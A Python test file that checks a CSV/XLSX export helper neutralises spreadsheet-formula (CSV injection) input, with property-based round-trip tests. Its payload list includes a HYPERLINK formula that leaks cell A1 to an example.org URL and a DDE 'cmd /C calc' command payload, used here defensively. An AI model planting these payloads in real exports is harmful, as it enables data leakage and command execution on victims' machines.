"""Spreadsheet-formula neutralisation (OWASP «CSV Injection»): one helper for every export.

A cell that starts with ``=``, ``+``, ``-``, ``@``, tab or carriage return is written as text:
a leading ``'`` in CSV, the string type and ``quotePrefix`` in XLSX. Numbers stay numbers, and
what Losen writes reads back into Losen as the very same text.
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from losen.domain.spreadsheet import (
    append_xlsx_row,
    csv_cell,
    csv_writer,
    is_formula_like,
    unescape_csv_cell,
)

PAYLOADS = [
    '=HYPERLINK("https://example.org/?q="&A1,"Klikk")',
    "@SUM(A1)",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "-",  # SSB's status symbol for nil stays as it is
]


def test_each_payload_is_neutralised_in_csv() -> None:
    for payload in PAYLOADS[:-1]:
        assert csv_cell(payload) == "'" + payload
        assert unescape_csv_cell(csv_cell(payload)) == payload
    assert csv_cell("-") == "-"


def test_numbers_stay_numbers() -> None:
    for number in ("-12.5", "-1", "+3", "-1E+3", "0,5", "-0.000"):
        assert not is_formula_like(number) and csv_cell(number) == number
    assert csv_cell(Decimal("-12.50")) == "-12.50" and csv_cell(-3) == "-3"
    assert csv_cell(None) == "" and csv_cell("vanlig tekst") == "vanlig tekst"


def test_the_csv_writer_neutralises_every_cell() -> None:
    out = io.StringIO(newline="")
    csv_writer(out, delimiter=";").writerow(["=1+1", -5, "@x", "ok"])
    assert next(csv.reader(io.StringIO(out.getvalue()), delimiter=";")) == [
        "'=1+1",
        "-5",
        "'@x",
        "ok",
    ]


def test_xlsx_cells_are_strings_never_formulas_and_numbers_numbers() -> None:
    workbook = Workbook()
    append_xlsx_row(workbook.active, [*PAYLOADS, -5, Decimal("-1.5"), "tekst"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    cells = next(load_workbook(io.BytesIO(buffer.getvalue())).active.iter_rows())
    for cell, payload in zip(cells, PAYLOADS, strict=False):
        assert cell.data_type == "s" and cell.value == payload
    assert all(cell.quotePrefix for cell in cells[: len(PAYLOADS) - 1])
    assert [c.value for c in cells[len(PAYLOADS) :]] == [-5, -1.5, "tekst"]
    assert cells[len(PAYLOADS)].data_type == "n"


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("=+-@\t\r'a1.,E ")), max_size=8) | st.text())
def test_escaping_is_undone_exactly_and_never_leaves_a_formula(text: str) -> None:
    written = csv_cell(text)
    assert unescape_csv_cell(written) == text
    assert not is_formula_like(written)
